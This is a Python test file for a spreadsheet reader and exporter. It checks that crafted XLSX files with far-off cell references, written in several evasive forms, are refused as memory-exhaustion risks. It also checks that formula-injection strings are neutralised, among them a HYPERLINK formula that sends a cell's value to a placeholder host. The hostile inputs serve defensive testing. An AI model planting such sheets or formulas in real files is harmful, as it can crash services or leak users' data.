"""A spreadsheet that is small on disk must not fill the memory: the reader would end the whole process. (SEC-03)"""

import io
import zipfile

import pytest
import xlsxwriter

from anju.core import sheets
from anju.core.files import Allowance, Kind, check_file
from anju.core.refusals import Refused

pytestmark = pytest.mark.covers("SEC-03")
SHEET = "房屋"
PART = "xl/worksheets/sheet1.xml"
HEAD = '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
TITLE = '<c t="inlineStr"><is><t>室号</t></is></c>'
CELL = "<c><v>1</v></c>"


def a_book(rows: str, part: str = PART) -> bytes:
    """A book whose sheet says just this, perhaps in another part of the file than usual."""
    stream, made = io.BytesIO(), io.BytesIO()
    with xlsxwriter.Workbook(stream, {"in_memory": True}) as book:
        book.add_worksheet(SHEET)
    xml = f"{HEAD}<sheetData>{rows}</sheetData></worksheet>"
    with zipfile.ZipFile(stream) as plain, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as out:
        for name in plain.namelist():
            text = plain.read(name).decode()
            if name.endswith(("workbook.xml.rels", "[Content_Types].xml")):
                text = text.replace(PART, part).replace(PART[3:], part[3:])
            out.writestr(part if name == PART else name, xml if name == PART else text)
    return made.getvalue()


def read(content: bytes) -> list[sheets.Row]:
    check_file("一.xlsx", content, Allowance(frozenset({Kind.XLSX}), 5 * 1024 * 1024))
    return sheets.rows_of("一.xlsx", sheets.open_book("一.xlsx", content), SHEET, {"室号": "room"})


def refusal(content: bytes) -> str:
    with pytest.raises(Refused) as no:
        read(content)
    return str(no.value.code.value)


FAR = {
    "a cell": f'<row r="1">{TITLE}</row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
    "zeros before its number": f'<row>{TITLE}</row><row><c r="XFD0000001048576"><v>1</v></c></row>',
    "a row that says its number alone": f'<row>{TITLE}{CELL * 3000}</row><row r="1048576">{CELL}</row>',
    "cells after one far to the right": f'<row><c r="XFC1"/>{TITLE}{CELL}</row><row r="9000">{CELL}</row>',
    "behind another attribute": f'<row>{TITLE}</row><row><c x:r="A1" s=">" r="XFD1048576"><v>1</v></c></row>',
    "an entity": f'<row>{TITLE}</row><row r="&#49;048576"><c r="XFD1048576"/></row>',
    "single quotes": f"<row>{TITLE}</row><row><c r = 'XFD1048576'/></row>",
    "a number beyond all": f'<row>{TITLE}</row><row r="99999999999999999999">{CELL}</row>',
}


@pytest.mark.parametrize("how", FAR)
def test_a_cell_far_out_is_refused_however_it_is_written(how):
    assert refusal(a_book(FAR[how])) == "sheet_too_wide"


def test_a_sheet_in_another_part_of_the_file_is_looked_through_as_well():
    assert refusal(a_book(FAR["a cell"], "xl/other.bin")) == "sheet_too_wide"


def test_a_comment_cannot_hide_a_cell():
    hidden = f'<row>{TITLE}</row><!-- <c " --><row r="1048576"><c r="XFD1048576"/></row>'
    assert refusal(a_book(hidden)) == "file_damaged"


def test_what_is_filled_in_is_read_with_and_without_places():
    plain = f"<row>{TITLE}</row><row>{CELL}</row>"
    placed = f'<row r="1">{TITLE}</row><row r="4"><c r="A4"><v>301</v></c></row>'
    assert read(a_book(plain)) == [(2, {"room": "1"})]
    assert read(a_book(placed)) == [(4, {"room": "301"})]


def test_no_text_becomes_a_formula():
    evil = ('=HYPERLINK("http://x.example/"&A1)', "+1", "-1", "@SUM(1)", "\t=1")
    content = sheets.sheet_file(SHEET, {"室号": 10}, [(one,) for one in evil])
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b"<f>" not in archive.read(PART)
    lines = b"".join(sheets.csv_lines(["室号"], [(one,) for one in evil])).decode("utf-8-sig")
    assert all(one.lstrip('"').startswith("'") for one in lines.splitlines()[1:] if one.strip('"'))
